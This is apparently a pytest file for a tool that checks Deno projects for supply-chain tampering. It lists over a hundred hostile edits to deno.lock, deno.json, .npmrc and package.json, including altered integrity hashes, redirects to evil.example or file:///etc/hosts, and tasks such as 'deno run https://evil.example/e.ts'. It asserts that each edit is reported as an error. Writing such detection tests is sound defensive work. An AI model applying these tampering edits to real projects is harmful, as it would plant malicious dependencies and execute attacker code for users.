"""What an attacker may write into deno.lock, deno.json and beside them: each is an error.

Each was tried with the real Deno 2.9.6 on servers of loopback, with evil packages behind every source: what is
here ran, fetched or stopped checking something. What had no effect there is in HARMLESS.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any, Final

import pytest

from tests.support.git_repo import GitRepo
from tests.support.npm_projects import check, run, sri

Files = dict[str, Any]
Edit = Callable[[Files], object]

AT: Final = "https://a.example"
HEX: Final = "8adda0beefd90cbb653d60afe7d159df20765d398ca4fe0ebf3ae8d8d28f448e"
OTHER: Final = "0" * 64
EVIL: Final = {"integrity": sri("evil")}
IMPORTS: Final = {
    "aa": "npm:aa@^1.0.0",
    "bb": "npm:bb@^1.0.0",
    "b": "jsr:@a/b@^1.0.0",
    "x": f"{AT}/x.ts",
}


def _base() -> Files:
    return {
        "deno.json": {
            "minimumDependencyAge": "P7D",
            "imports": dict(IMPORTS),
            "workspace": ["./m"],
            "tasks": {"start": "deno run -A main.ts"},
        },
        "m/deno.json": {
            "name": "@me/m",
            "version": "1.0.0",
            "exports": "./mod.ts",
            "imports": {"cc": "npm:cc@^1.0.0"},
        },
        "main.ts": "import 'aa'; import 'b'; import 'x';\n",
        "deno.lock": {
            "version": "5",
            "specifiers": {
                "jsr:@a/b@1": "1.1.0", "npm:aa@1": "1.1.0", "npm:bb@1": "1.2.0", "npm:cc@1": "1.0.0",
            },
            "jsr": {"@a/b@1.1.0": {"integrity": HEX}},
            "npm": {
                "aa@1.1.0": {"integrity": sri("aa")},
                "bb@1.2.0": {"integrity": sri("bb"), "dependencies": ["aa"]},
                "cc@1.0.0": {"integrity": sri("cc")},
            },
            "redirects": {f"{AT}/latest.ts": f"{AT}/v1/mod.ts"},
            "remote": {f"{AT}/v1/mod.ts": HEX, f"{AT}/x.ts": HEX, f"{AT}/z.ts": HEX},
            "workspace": {
                "dependencies": ["jsr:@a/b@1", "npm:aa@1", "npm:bb@1"],
                "members": {"m": {"dependencies": ["npm:cc@1"]}},
            },
        },
    }  # fmt: skip


def _lock(*path: str, **values: object) -> Edit:
    """Set keys of a table of deno.lock; None takes one away."""

    def edit(files: Files) -> None:
        table = files["deno.lock"]
        for key in path:
            table = table.setdefault(key, {})
        _set(table, values)

    return edit


def _set(table: dict[str, object], values: dict[str, object]) -> None:
    for key, value in values.items():
        if value is None:
            table.pop(key)
        else:
            table[key] = value


def _config(file: str = "deno.json", /, **values: object) -> Edit:
    return lambda files: _set(files[file], values)


def _put(**contents: object) -> Edit:
    """Files by name, with ``__`` for a slash and ``_`` for a dot."""

    def edit(files: Files) -> None:
        for name, content in contents.items():
            files[name.replace("__", "/").replace("_", ".")] = content

    return edit


def _all(*edits: Edit) -> Edit:
    return lambda files: [edit(files) for edit in edits]


def _imports(**values: object) -> Edit:
    return lambda files: _set(files["deno.json"]["imports"], values)


def _text(file: str, old: str, new: str) -> Edit:
    def edit(files: Files) -> None:
        files[file] = json.dumps(files[file], indent=2).replace(old, new)

    return edit


def _redirect(target: str, source: str = f"{AT}/latest.ts") -> Edit:
    return _lock("redirects", **{source: target})


_EVIL_ENTRY: Final = _lock("npm", **{"evil@1.0.0": EVIL})
_TWO: Final = _lock("npm", **{"aa@2.0.0": {"integrity": sri("aa2")}})
_FOLDER: Final = _put(n__package_json={"name": "aa", "version": "1.1.0", "main": "i.js"})

ATTACKS: Final[dict[str, Edit]] = {
    "an npm hash gone": _lock("npm", "aa@1.1.0", integrity=None),
    "an npm hash changed": _lock("npm", "aa@1.1.0", integrity=sri("evil")),
    "an npm hash weaker": _lock("npm", "aa@1.1.0", integrity="sha1-" + "A" * 27 + "="),
    "an npm hash empty": _lock("npm", "aa@1.1.0", integrity=""),
    "two npm hashes": _lock("npm", "aa@1.1.0", integrity=f"{sri('aa')} {sri('evil')}"),
    "a tarball elsewhere": _lock("npm", "aa@1.1.0", tarball="https://evil.example/aa.tgz"),
    "a tarball of another": _lock("npm", "aa@1.1.0", tarball="https://registry.npmjs.org/evil/-/evil-1.0.0.tgz"),
    "an npm entry gone": _lock("npm", **{"aa@1.1.0": None}),
    "a dependency is an alias": _all(_lock("npm", "bb@1.2.0", dependencies=["aa@npm:evil@1.0.0"]), _EVIL_ENTRY),
    "one more dependency": _all(_lock("npm", "bb@1.2.0", dependencies=["aa", "evil"]), _EVIL_ENTRY),
    "an optional dependency": _all(_lock("npm", "bb@1.2.0", optionalDependencies=["evil"]), _EVIL_ENTRY),
    "an optional peer": _all(_lock("npm", "bb@1.2.0", optionalPeers=["evil"]), _EVIL_ENTRY),
    "an entry that nothing needs": _EVIL_ENTRY,
    "an older version": _all(_lock("specifiers", **{"npm:aa@1": "1.0.0"}),
                             _lock("npm", **{"aa@1.0.0": {"integrity": sri("aa0")}})),
    "a version outside the range": _all(_lock("specifiers", **{"npm:aa@1": "2.0.0"}), _TWO),
    "an older jsr version": _lock("specifiers", **{"jsr:@a/b@1": "1.0.0"}),
    "a specifier gone": _lock("specifiers", **{"npm:aa@1": None}),
    "a jsr specifier gone": _lock("specifiers", **{"jsr:@a/b@1": None}),
    "a specifier nobody asked for": _all(_lock("specifiers", **{"npm:evil@1": "1.0.0"}), _EVIL_ENTRY),
    "a specifier in capitals": _lock("specifiers", **{"NPM:aa@1": "2.0.0"}),
    "a specifier with a slash": _all(_lock("specifiers", **{"npm:/aa@1": "2.0.0"}), _TWO),
    "a specifier's long form": _all(_lock("specifiers", **{"npm:aa@^1.0.0": "2.0.0"}), _TWO),
    "a specifier that is a number": _lock("specifiers", **{"npm:aa@1": 1}),
    "a specifier that is a URL": _lock("specifiers", **{f"{AT}/x.ts": "1"}),
    "a jsr hash changed": _lock("jsr", "@a/b@1.1.0", integrity=OTHER),
    "a jsr hash gone": _lock("jsr", "@a/b@1.1.0", integrity=None),
    "a jsr entry gone": _lock("jsr", **{"@a/b@1.1.0": None}),
    "a jsr dependency": _lock("jsr", "@a/b@1.1.0", dependencies=["npm:evil@1"]),
    "the jsr section gone": _lock(jsr=None),
    "a module's hash changed": _lock("remote", **{f"{AT}/x.ts": OTHER}),
    "a module's hash gone": _lock("remote", **{f"{AT}/x.ts": None}),
    "a module's hash in capitals": _lock("remote", **{f"{AT}/x.ts": HEX.upper()}),
    "the modules gone": _lock(remote=None),
    "one more module": _lock("remote", **{"https://evil.example/e.ts": HEX}),
    "a module over http": _lock("remote", **{"http://a.example/q.ts": HEX}),
    "a redirect to no hash": _redirect("https://evil.example/e.ts"),
    "a redirect to a new module": _all(_redirect("https://evil.example/e.ts"),
                                       _lock("remote", **{"https://evil.example/e.ts": HEX})),
    "a redirect of a locked module": _redirect(f"{AT}/z.ts", f"{AT}/x.ts"),
    "a redirect to data": _redirect('data:text/javascript,console.log("EVIL")'),
    "a redirect to a file": _redirect("file:///etc/hosts"),
    "a redirect to npm": _redirect("npm:evil@1.0.0"),
    "a redirect to jsr": _redirect("jsr:@evil/e"),
    "a redirect to a path": _redirect("./evil/e.ts"),
    "a redirect of a specifier": _redirect("https://evil.example/e.ts", "jsr:@a/b@1"),
    "a redirect of a file of jsr": _redirect("https://evil.example/e.ts", "https://jsr.io/@a/b/1.1.0/mod.ts"),
    "a requirement gone": _lock("workspace", dependencies=["jsr:@a/b@1", "npm:bb@1"]),
    "a member gone": _lock("workspace", "members", m=None),
    "a member of another name": _lock("workspace", members={"zz": {"dependencies": ["npm:cc@1"]}}),
    "links in the lockfile": _lock("workspace", links={"npm:aa@1.1.0": {}}),
    "patches in the lockfile": _lock("workspace", patches={"npm:aa@1.1.0": {}}),
    "overrides in the lockfile": _lock("workspace", packageJson={"overrides": {"aa": "2.0.0"}}),
    "the workspace gone": _lock(workspace=None),
    "an emptied lockfile": _put(deno_lock={"version": "5"}),
    "an empty file": _put(deno_lock=""),
    "version 6": _lock(version="6"), "version 2": _lock(version="2"),
    "an unknown section": _lock(npm2={}),
    "a section twice": _text("deno.lock", '"npm": {', '"npm": {},\n  "npm": {'),
    "an entry twice": _text("deno.lock", '"aa@1.1.0": {', '"aa@1.1.0": {},\n  "aa@1.1.0": {'),
    "a merge conflict": _text("deno.lock", '"npm": {', '<<<<<<< HEAD\n  "npm": {'),
    "no lockfile": lambda files: files.pop("deno.lock"),
    "all scripts": _config(allowScripts=True), "all scripts but": _config(allowScripts={"allow": True}),
    "one package's scripts": _config(allowScripts=["npm:aa"]),
    "one version's scripts": _config(allowScripts={"allow": ["npm:aa@1.1.0"]}),
    "allowScripts as a text": _config(allowScripts="npm:aa"), "allowScripts as a number": _config(allowScripts=1),
    "allowScripts without npm:": _config(allowScripts=["aa"]),
    "the lockfile off": _config(lock=False), "another lockfile": _config(lock="other.lock"),
    "another lockfile in a table": _all(_config(lock={"path": "sub/deno.lock", "frozen": False}),
                                        _put(sub__deno_lock={"version": "5"})),
    "an unnamed lockfile": _config(lock=""), "no file as lockfile": _config(lock="/dev/null"),
    "a member's lockfile": _config("m/deno.json", lock="other.lock"),
    "an import map of a server": _config(imports=None, importMap="https://evil.example/im.json"),
    "an import map in a URL": _config(imports=None, importMap='data:application/json,{"imports":{}}'),
    "another import map": _all(_config(imports=None, importMap="im.json"),
                               _put(im_json={"imports": {**IMPORTS, "aa": "npm:evil@1.0.0"}})),
    "two import maps": _all(_config(importMap="im.json"), _put(im_json={"imports": {"aa": "npm:evil@1.0.0"}})),
    "an import of a server": _imports(aa="https://evil.example/e.ts"),
    "an import over http": _imports(aa="http://evil.example/e.ts"),
    "an import of another package": _imports(aa="npm:evil@^1.0.0"),
    "an import without a range": _imports(aa="npm:aa"), "an import of a tag": _imports(aa="npm:aa@latest"),
    "an import of another jsr package": _imports(b="jsr:@evil/e"),
    "an import in the place of a module": _imports(**{f"{AT}/x.ts": "https://evil.example/e.ts"}),
    "an import in the place of a server": _imports(**{f"{AT}/": "https://evil.example/"}),
    "an import in the place of a package": _imports(**{"npm:cc@^1.0.0": "npm:evil@1.0.0"}),
    "a scope": _config(scopes={"./": {"aa": "npm:evil@1"}}),
    "a scope of a server": _config(scopes={f"{AT}/": {f"{AT}/z.ts": "https://evil.example/e.ts"}}),
    "a member's scope": _config("m/deno.json", scopes={"./": {"cc": "npm:evil@1"}}),
    "a member's import map": _all(_config("m/deno.json", importMap="../im.json"),
                                  _put(im_json={"imports": {"cc": "npm:evil@1.0.0"}})),
    "a member's import": _config("m/deno.json", imports={"cc": "npm:evil@^1.0.0"}),
    "a second configuration": _put(deno_jsonc={"allowScripts": True, "lock": False}),
    "an import twice": _text("deno.json", '"aa": "npm:aa', '"aa": "npm:evil@1", "aa": "npm:aa'),
    "one more member": _all(_config(workspace=["./m", "./n"]),
                            _put(n__deno_json={"name": "@me/n", "imports": {"e": "npm:evil@1.0.0"}})),
    "a member of package.json": _all(_config(workspace=["./m", "./n"]),
                                     _put(n__package_json={"name": "n", "dependencies": {"evil": "1.0.0"}})),
    "links": _all(_config(links=["./n"]), _FOLDER), "patch": _all(_config(patch=["./n"]), _FOLDER),
    "links outside": _config(links=["../x"]),
    "vendor": _config(vendor=True), "vendor as a text": _config(vendor="true"),
    "no cooldown": _config(minimumDependencyAge=0), "a cooldown of nothing": _config(minimumDependencyAge="P0D"),
    "an unknown feature": _config(unstable=["npm-lazy-caching"]), "an unknown key": _config(whatever=1),
    "a plugin": _config(lint={"plugins": ["npm:evil"]}),
    "another JSX": _config(compilerOptions={"jsx": "react-jsx", "jsxImportSource": "npm:evil"}),
    "another registry": _put(_npmrc="registry=https://evil.example/\n"),
    "no cooldown by .npmrc": _put(_npmrc="min-release-age=0\n"),
    "no TLS": _put(_npmrc="strict-ssl=false\n"),
    "a package.json": _put(package_json={"name": "p", "dependencies": {"evil": "1.0.0"}}),
    "an override": _put(package_json={"name": "p", "overrides": {"aa": "npm:evil@1.0.0"}}),
    "a jsr package of package.json": _put(package_json={"name": "p", "dependencies": {"@evil/e": "jsr:1"}}),
    "a configuration below": _put(t__deno_json={"imports": {"aa": "npm:evil@1.0.0"}}),
    "a lockfile alone": _put(t__deno_lock={"version": "5", "remote": {"https://evil.example/e.ts": HEX}}),
    **{f"a task with {command}": _config(tasks={"t": command}) for command in (
        "deno run -A npm:evil", "deno install --allow-scripts", "deno run --no-lock -A main.ts",
        "NPM_CONFIG_REGISTRY=https://evil.example deno install", "JSR_URL=https://evil.example deno run main.ts",
        "deno run --import-map=https://evil.example/im.json main.ts", "deno run https://evil.example/e.ts",
        "npx evil", "deno run --lock=o.lock main.ts", "deno approve-scripts npm:aa", "deno run -c t/o.json a.ts",
    )},
}  # fmt: skip

HARMLESS: Final[dict[str, Edit]] = {
    "no change": lambda _: None,
    "version 4": _lock(version="4"),
    "another table of members": _config(workspace={"members": ["./m"]}),
    "frozen": _config(lock={"frozen": True}), "its own path": _config(lock={"path": "./deno.lock"}),
    "scripts denied": _config(allowScripts={"deny": ["npm:aa"]}), "no scripts": _config(allowScripts=[]),
    "a range that admits the same": _imports(aa="npm:aa@1"), "an alias": _imports(a2="npm:aa@^1.0.0"),
    "a subpath": _imports(**{"bb/": "npm:/bb@^1.0.0/"}), "a module below": _imports(**{"a/": f"{AT}/v1/"}),
    "a longer cooldown": _config(minimumDependencyAge={"age": "P9D", "exclude": ["npm:aa"]}),
    "tasks": _config(tasks={"a": "deno test -A && deno fmt", "b": {"command": "deno install --frozen=false"}}),
    "a member with its own code": _all(_config(workspace=["./m", "./n"]),
                                       _put(n__deno_json={"name": "@me/n", "exports": "./mod.ts"})),
    "a version of its own": _config("m/deno.json", version="1.0.1"),
    "comments": lambda files: files.update({"deno.jsonc": "// words\n" + json.dumps(files.pop("deno.json"))}),
    "other keys": _config(fmt={"lineWidth": 99}, exclude=["dist"], publish={}, test={}, unstable=["kv"]),
    "a declaration's redirect": _redirect(f"{AT}/types/x.d.ts", f"{AT}/types.ts"),
}  # fmt: skip


@pytest.fixture(scope="module")
def adopted(tmp_path_factory: pytest.TempPathFactory) -> GitRepo:
    repo = GitRepo(tmp_path_factory.mktemp("deno") / "repo")
    _write(repo, _base())
    repo.commit("Begin")
    assert run(repo.path, "init").status == 0
    repo.commit("Adopt")
    return repo


def _write(repo: GitRepo, files: Files) -> None:
    for path, content in files.items():
        text = content if isinstance(content, str) else json.dumps(content, indent=2) + "\n"
        repo.write(path, text)


def _errors(repo: GitRepo, edit: Edit) -> list[str]:
    base, files = _base(), _base()
    edit(files)
    repo.git("reset", "-q", "--hard")
    repo.git("clean", "-qfdx")
    for path in base.keys() - files.keys():
        (repo.path / path).unlink()
    _write(repo, {path: content for path, content in files.items() if base.get(path) != content})
    return [each["message"] for each in check(repo).findings if each["level"] == "error"]


@pytest.mark.slow
def test_each_attack_is_an_error(adopted: GitRepo) -> None:
    assert [name for name, edit in ATTACKS.items() if not _errors(adopted, edit)] == []


@pytest.mark.slow
def test_what_honest_people_write_is_none(adopted: GitRepo) -> None:
    found = {name: _errors(adopted, edit) for name, edit in HARMLESS.items()}
    assert {name: errors for name, errors in found.items() if errors} == {}
